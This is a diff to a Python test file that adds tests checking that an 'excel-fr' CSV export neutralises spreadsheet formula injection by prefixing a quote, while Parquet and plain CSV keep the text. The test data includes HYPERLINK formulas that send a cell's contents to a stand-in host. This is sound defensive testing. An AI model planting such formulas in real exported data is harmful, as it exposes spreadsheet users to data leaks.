@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import dataclasses
 import io
 import json
 from pathlib import Path
@@ -15,7 +16,9 @@ from hypothesis import strategies as st
 
 from conftest import SAMPLE
 from extract.cli import main
-from extract.store import csv_bytes, parquet_bytes
+from extract.output import write_outputs
+from extract.pipeline import Options, Result
+from extract.store import csv_bytes, parquet_bytes, read_table
 from extract.tables import SCHEMAS, SORT_KEYS
 from gen import make_directory
 
@@ -90,6 +93,69 @@ def test_manifest_describes_the_run(tmp_path: Path) -> None:
     assert "laureates.parquet" in manifest["tables"]
 
 
+# --- CSV injection: what a spreadsheet would run -----------------------------------------
+
+# The first characters OWASP lists as starting a formula in Excel and LibreOffice.
+DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
+FORMULAS = [f'{start}HYPERLINK("http://x.test/"&A1)' for start in DANGEROUS]
+
+
+def _read_csv(path: Path, dialect: str) -> list[dict[str, str]]:
+    encoding, delimiter = ("utf-8-sig", ";") if dialect == "excel-fr" else ("utf-8", ",")
+    with path.open(encoding=encoding, newline="") as handle:
+        return list(csv.DictReader(handle, delimiter=delimiter))
+
+
+def _with_formulas(result: Result) -> Result:
+    """The sample's records, with printed text that starts like a formula in several columns."""
+    tables = dict(result.tables)
+    laureates = tables["laureates"]
+    for column in ("territory", "project", "description"):
+        values = laureates.column(column).to_pylist()
+        values[: len(FORMULAS)] = FORMULAS
+        index = laureates.schema.get_field_index(column)
+        laureates = laureates.set_column(index, laureates.field(column), pa.array(values))
+    tables["laureates"] = laureates
+    editions = tables["editions"]
+    index = editions.schema.get_field_index("criteria")
+    criteria = pa.array([FORMULAS], editions.field("criteria").type)
+    tables["editions"] = editions.set_column(index, editions.field("criteria"), criteria)
+    return dataclasses.replace(result, tables=tables)
+
+
+def test_excel_fr_makes_formula_cells_inert_and_plain_keeps_the_text(
+    sample_result: Result, tmp_path: Path
+) -> None:
+    result = _with_formulas(sample_result)
+    for dialect in ("excel-fr", "plain"):
+        out = tmp_path / dialect
+        write_outputs(out, [result], Options(jobs=1, csv_dialect=dialect))
+        rows = sorted(_read_csv(out / "laureates.csv", dialect), key=lambda r: r["record_id"])
+        want = sorted(result.tables["laureates"].to_pylist(), key=lambda r: r["record_id"])
+        (edition,) = _read_csv(out / "editions.csv", dialect)
+        if dialect == "excel-fr":
+            for row, wanted in zip(rows, want, strict=True):
+                for column in ("territory", "project", "description"):
+                    text = wanted[column]
+                    assert row[column] == ("'" + text if text[:1] in DANGEROUS else text)
+            assert {row["territory"] for row in rows} >= {"'" + f for f in FORMULAS}
+            assert edition["criteria"] == "'" + "|".join(FORMULAS)
+        else:
+            assert [r["territory"] for r in rows] == [w["territory"] for w in want]
+            assert edition["criteria"] == "|".join(FORMULAS)
+        # Parquet keeps the exact printed text whatever the CSV dialect.
+        parquet = sorted(read_table(out, "laureates").to_pylist(), key=lambda r: r["record_id"])
+        assert parquet == want
+
+
+def test_a_negative_number_is_not_quoted_but_text_that_looks_like_one_is() -> None:
+    table = pa.table({"n": pa.array([-5], pa.int32()), "s": pa.array(["-5"])})
+    rows = list(
+        csv.reader(io.StringIO(csv_bytes(table, "excel-fr").decode("utf-8-sig")), delimiter=";")
+    )
+    assert rows == [["n", "s"], ["-5", "'-5"]]
+
+
 # --- round trip: what is written reads back equal --------------------------------------
 
 TEXT = st.text(
@@ -137,6 +203,8 @@ def test_laureates_round_trip_through_parquet_and_csv(
                 assert got[key] == ""
             elif isinstance(value, bool):
                 assert got[key] == ("true" if value else "false")
+            elif dialect == "excel-fr" and isinstance(value, str) and value[:1] in DANGEROUS:
+                assert got[key] == "'" + value
             else:
                 assert got[key] == str(value)
 
